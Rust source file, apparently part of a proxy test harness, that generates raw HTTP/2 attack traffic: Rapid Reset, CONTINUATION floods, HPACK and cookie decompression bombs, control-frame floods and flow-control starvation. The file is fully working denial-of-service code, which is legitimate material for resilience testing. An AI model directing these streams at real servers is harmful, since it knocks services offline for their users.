//! The HTTP/2 attacks: the bytes an attacker sends and how it treats responses. Each attack has brought down some HTTP/2
//! server. The bytes are sent in a cycle; the repeated preface is not a valid frame, so a proxy that tolerated everything
//! closes the connection there and the attacker opens another.

use std::sync::Arc;

use super::held_connections::{Holding, Then};
use super::kind::Kind;
use super::threads::Work;
use crate::proof::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, Frames, HEADERS, INITIAL_WINDOW_SIZE, MAX_WINDOW, PING,
    PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, head,
};

/// Streams, or frames, of one connection before the circle closes.
const FRAMES_PER_CYCLE: u32 = 5_000;
/// Streams that are open when they are reset together.
const STREAMS_PER_RESET: u32 = 100;
/// The path of attackers that must act before the response.
const SLOW: &str = "/slow?delay=10s";
/// The path of attackers that do not care about the response.
const SMALL: &str = "/bytes/10";
/// RFC 9113 §7.
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();
const ONE: [u8; 4] = 1_u32.to_be_bytes();
/// Streams with one-byte windows, and with unread responses.
pub(super) const TINY_WINDOW_STREAMS: usize = 100;
pub(super) const UNREAD_STREAMS: usize = 8;
/// A literal with incremental indexing and a name that follows; the newest entry of the table, by its index
/// (RFC 7541 §6.1, §6.2.1).
const INDEXED_LITERAL: u8 = 0x40;
const NEWEST: u8 = 0x80 | 62;

/// The work of the attackers of `kind`.
pub(super) fn work(kind: Kind) -> Work {
    let opening = Frames::opening(&[]);
    // Requests, each with a frame behind it that resets the stream or makes the proxy reset it.
    let reset = |frame: u8, flags: u8, payload: &dyn Fn(u32) -> Vec<u8>| {
        let reset =
            |frames: Frames, stream| frames.get(stream, SMALL).frame(frame, flags, stream, &payload(stream));
        Frames::opening(&[]).streams(FRAMES_PER_CYCLE, reset)
    };
    let repeated = |beginning: Frames, kind: u8, stream: u32, payload: &[u8]| {
        (0..FRAMES_PER_CYCLE).fold(beginning, |frames, _| frames.frame(kind, 0, stream, payload))
    };
    let frames = match kind {
        Kind::H2TinyWindows => return tiny_windows(),
        Kind::H2NoReads => return unread(),
        Kind::H2Connections => {
            let opening = opening.get(1, SMALL).into_bytes();
            return Work::Hold(Holding::new(vec![opening], Then::Listen));
        }
        Kind::H2LateResets => return Work::Stream(Arc::new(late_resets())),
        Kind::H2RapidReset => reset(RST_STREAM, 0, &|_| CANCEL.to_vec()),
        Kind::H2ZeroIncrements => reset(WINDOW_UPDATE, 0, &|_| vec![0; 4]),
        Kind::H2LargeIncrements => reset(WINDOW_UPDATE, 0, &|_| MAX_WINDOW.to_be_bytes().to_vec()),
        Kind::H2PriorityLengths => reset(PRIORITY, 0, &|_| vec![0; 4]),
        Kind::H2PriorityLoops => reset(PRIORITY, 0, &|stream| [&stream.to_be_bytes()[..], &[16]].concat()),
        Kind::H2HeadersAfterEnd => reset(HEADERS, END_HEADERS | END_STREAM, &|_| head(false, SMALL)),
        Kind::H2EmptyData => repeated(opening.post(1, "/sink"), DATA, 1, &[]),
        Kind::H2Settings => repeated(opening, SETTINGS, 0, &[]),
        Kind::H2Pings => repeated(opening, PING, 0, b"attacker"),
        Kind::H2Priorities => repeated(opening, PRIORITY, 1, &[0, 0, 0, 0, 200]),
        Kind::H2WindowUpdates => repeated(opening, WINDOW_UPDATE, 0, &ONE),
        Kind::H2Continuations => {
            let beginning = opening.frame(HEADERS, END_STREAM, 1, &head(false, SMALL));
            repeated(beginning, CONTINUATION, 1, &[])
        }
        // A block of 8 KiB decompresses to 16 MB of headers.
        Kind::H2HpackBomb => bombs(opening, "x-bomb", 4_000),
        Kind::H2CrumbBomb => bombs(opening, "cookie", 1),
        _ => opening.streams(FRAMES_PER_CYCLE, |frames, stream| {
            let ended = frames.post(stream, "/sink").frame(DATA, END_STREAM, stream, b"x");
            ended.frame(DATA, END_STREAM, stream, b"x")
        }),
    };
    Work::stream(&frames.into_bytes())
}

/// Batches of requests, each followed by a batch of resets in a second write, so that the proxy has already started what is
/// cancelled.
fn late_resets() -> Vec<Vec<u8>> {
    let streams = |batch: u32| {
        (batch * STREAMS_PER_RESET..(batch + 1) * STREAMS_PER_RESET).map(|number| 2 * number + 1)
    };
    let mut chunks = vec![Frames::opening(&[]).into_bytes()];
    for batch in 0..FRAMES_PER_CYCLE / STREAMS_PER_RESET {
        let get_frames = streams(batch).fold(Frames::default(), |frames, stream| frames.get(stream, SLOW));
        let reset = streams(batch)
            .fold(Frames::default(), |frames, stream| frames.frame(RST_STREAM, 0, stream, &CANCEL));
        chunks.extend([get_frames.into_bytes(), reset.into_bytes()]);
    }
    chunks
}

/// Requests each of which puts a field into the table and then names it thousands of times with a byte each.
fn bombs(opening: Frames, name: &str, size: usize) -> Frames {
    let mut block = head(false, SMALL);
    block.extend([INDEXED_LITERAL, name.len() as u8]);
    block.extend(name.as_bytes());
    // A length above 126 continues in groups of seven bits (RFC 7541 §5.1).
    match size.checked_sub(127) {
        None => block.push(size as u8),
        Some(rest) => block.extend([127, 0x80 | (rest & 0x7f) as u8, (rest >> 7) as u8]),
    }
    block.resize(block.len() + size, b'x');
    block.resize(block.len() + 4_000, NEWEST);
    opening.streams(FRAMES_PER_CYCLE / 50, |frames, stream| {
        frames.frame(HEADERS, END_HEADERS | END_STREAM, stream, &block)
    })
}

fn tiny_windows() -> Work {
    let beginning = Frames::opening(&[(INITIAL_WINDOW_SIZE, 1)])
        .streams(TINY_WINDOW_STREAMS as u32, |frames, stream| frames.get(stream, "/bytes/10000"));
    let window_frames = Frames::default()
        .streams(TINY_WINDOW_STREAMS as u32, |frames, stream| frames.frame(WINDOW_UPDATE, 0, stream, &ONE));
    Work::Hold(Holding::new(vec![beginning.into_bytes()], Then::Send(window_frames.into_bytes())))
}

fn unread() -> Work {
    let beginning = Frames::opening(&[(INITIAL_WINDOW_SIZE, MAX_WINDOW)])
        .frame(WINDOW_UPDATE, 0, 0, &(1_u32 << 30).to_be_bytes())
        .streams(UNREAD_STREAMS as u32, |frames, stream| frames.get(stream, "/bytes/8388608"));
    Work::Hold(Holding::new(vec![beginning.into_bytes()], Then::Hold).with_small_buffer())
}
